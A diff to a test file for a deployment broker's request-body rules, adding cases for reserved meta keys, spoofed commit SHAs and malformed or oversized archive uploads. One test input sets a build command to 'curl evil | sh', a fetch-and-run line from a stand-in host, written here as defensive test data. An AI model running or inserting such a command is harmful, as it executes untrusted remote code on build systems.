@@ -254,6 +254,38 @@ describe('create-deployment body rules', () => {
       { customEnvironmentSlugOrId: 'staging' },
       /target staging is not allowed/,
     ],
+    ['a reserved meta key', { meta: { githubCommitSha: 'spoofed' } }, /meta\.githubCommitSha is not allowed/],
+    ['a reserved meta key in any case', { meta: { KeyHoleStaged: '1' } }, /meta\.KeyHoleStaged is not allowed.*reserved/],
+    [
+      'archive parts mixed with files',
+      { files: [files[0], { file: '.vercel/source.tgz.part1', sha: sha1('x'), size: 1 }] },
+      /lists only its parts/,
+    ],
+    [
+      'archive parts not numbered from 1',
+      { files: [{ file: '.vercel/source.tgz.part2', sha: sha1('x'), size: 1 }] },
+      /numbered 1 to 1, each once/,
+    ],
+    [
+      'an archive part twice',
+      {
+        files: [
+          { file: '.vercel/source.tgz.part1', sha: sha1('x'), size: 1 },
+          { file: '.vercel/source.tgz.part1', sha: sha1('y'), size: 1 },
+        ],
+      },
+      /numbered 1 to 2, each once/,
+    ],
+    [
+      'an archive part without its size',
+      { files: [{ file: '.vercel/source.tgz.part1', sha: sha1('x') }] },
+      /send its sha and size/,
+    ],
+    [
+      'an archive larger than the job may upload',
+      { files: [{ file: '.vercel/source.tgz.part1', sha: sha1('x'), size: 3 * 1024 ** 3 }] },
+      /the archive has 3221225472 bytes; this broker lets a job upload/,
+    ],
     [
       'too many files',
       { files: Array.from({ length: 51 }, (_, i) => ({ ...files[0], file: `f${i}` })) },
@@ -285,7 +317,7 @@ describe('create-deployment body rules', () => {
       name: 'billing',
       project: 'prj_billing',
       projectSettings: { buildCommand: 'curl evil | sh' },
-      meta: { githubCommitSha: 'spoofed', custom: 'kept' },
+      meta: { custom: 'kept' },
       gitMetadata: { commitSha: 'spoofed', commitAuthorName: 'Mallory' },
     });
     expect(response.status).toBe(200);
